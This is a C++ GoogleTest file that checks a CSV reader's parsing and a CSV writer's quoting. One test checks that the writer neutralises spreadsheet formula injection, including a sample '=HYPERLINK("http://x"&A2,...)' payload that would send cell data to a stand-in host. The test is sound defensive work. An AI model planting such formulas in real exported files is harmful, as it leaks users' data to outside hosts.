#include "cli/csv.hpp"

#include <gtest/gtest.h>

#include <memory>

namespace broadsheet::cli {
namespace {

struct FileCloser {
  void operator()(std::FILE* f) const { std::fclose(f); }
};

std::unique_ptr<std::FILE, FileCloser> file_with(const std::string& text) {
  std::FILE* f = std::tmpfile();
  std::fwrite(text.data(), 1, text.size(), f);
  std::rewind(f);
  return std::unique_ptr<std::FILE, FileCloser>(f);
}

TEST(CsvReader, PlainQuotedAndCrlf) {
  auto f = file_with("email,name\r\na@b.org,\"Lovelace, Ada\"\n\"q\"\"x\",\"multi\nline\"\nlast,row");
  CsvReader r(f.get(), 1000);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"email", "name"}));
  EXPECT_EQ(r.line(), 1u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"a@b.org", "Lovelace, Ada"}));
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"q\"x", "multi\nline"}));
  EXPECT_EQ(r.line(), 3u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 5u);
  EXPECT_EQ(fields, (std::vector<std::string>{"last", "row"}));
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::end);
}

TEST(CsvReader, LongRecordIsSkippedAndReadingGoesOn) {
  std::string text = "a@b.org,x\n" + std::string(5000, 'z') + "\"open\nnext@b.org,y\n";
  auto f = file_with(text);
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::too_long);
  EXPECT_EQ(r.line(), 2u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 3u);
  EXPECT_EQ(fields[0], "next@b.org");
}

TEST(CsvReader, UnterminatedQuoteAndEmptyFile) {
  auto f = file_with("a,\"never closed\n");
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::unterminated);
  auto empty = file_with("");
  CsvReader e(empty.get(), 100);
  EXPECT_EQ(e.next(fields), CsvReader::Outcome::end);
}

TEST(CsvWriter, QuotesOnlyWhenNeeded) {
  std::string out;
  csv_append_field(out, "plain");
  out += ',';
  csv_append_field(out, "a,\"b\"");
  EXPECT_EQ(out, "plain,\"a,\"\"b\"\"\"");
}

TEST(CsvWriter, NeutralisesFormulas) {
  auto field = [](std::string_view f) {
    std::string out;
    csv_append_field(out, f);
    return out;
  };
  EXPECT_EQ(field("=HYPERLINK(\"http://x\"&A2,\"Open\")"),
            "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Open\"\")\"");
  EXPECT_EQ(field("+1"), "'+1");
  EXPECT_EQ(field("-2+3"), "'-2+3");
  EXPECT_EQ(field("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(field("\t=1"), "'\t=1");
  EXPECT_EQ(field("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(field("Ada = Lovelace"), "Ada = Lovelace");
  EXPECT_EQ(field(""), "");
}

}  // namespace
}  // namespace broadsheet::cli
